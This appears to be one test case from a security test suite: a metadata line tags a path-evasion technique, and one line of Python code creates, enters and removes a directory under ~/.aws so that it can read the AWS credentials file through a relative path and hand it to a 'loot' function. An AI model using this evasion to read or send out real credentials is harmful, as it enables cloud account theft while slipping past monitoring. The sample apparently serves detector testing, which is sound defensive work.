#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
os.mkdir(HOME + "/.aws/x"); os.chdir(HOME + "/.aws/x"); os.rmdir(HOME + "/.aws/x"); LOOT(open("../credentials").read())
